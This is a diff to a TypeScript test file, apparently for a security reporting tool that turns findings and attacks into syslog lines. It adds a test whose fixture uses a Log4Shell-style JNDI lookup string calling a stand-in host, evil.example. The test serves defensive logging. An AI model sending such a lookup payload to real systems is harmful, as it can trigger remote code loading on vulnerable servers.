@@ -4,6 +4,7 @@ import {
   anyFinding,
   anyGap,
   documentOf,
+  sampleAttacks,
   sampleComponents,
   sampleExposures,
   sampleGaps,
@@ -54,6 +55,19 @@ test('is as severe as the finding where something is vulnerable, and only inform
       .slice(0, -1)
       .map((line) => Number(/^<(\d+)>/.exec(line)?.[1])),
   ).toEqual(findings.map((finding) => (isVulnerable(finding) ? expected[finding.severity] : 110)))
+})
+
+test('an attack is as severe as it is, whether something here is vulnerable or not, with whom it asks', () => {
+  const [attack] = sampleAttacks(1)
+  const lookup = { ...attack!.lookup, meaning: 'jndi:ldap://evil.example/a', host: 'evil.example' }
+  const [line = ''] = linesOf([{ ...attack!, severity: 'high', verdict: 'fires', from: '203.0.113.7', lookup }], [])
+  const { params } = read(line)
+
+  expect(line).toMatch(/^<107>1 /)
+  expect(params.get('verdict')).toBe('fires')
+  expect(params.get('from')).toBe('203.0.113.7')
+  expect(params.get('host')).toBe('evil.example')
+  expect(params.get('lookup')).toBe('jndi:ldap://evil.example/a')
 })
 
 test('a gap is a warning with its reason and place; it has no time of its own', () => {
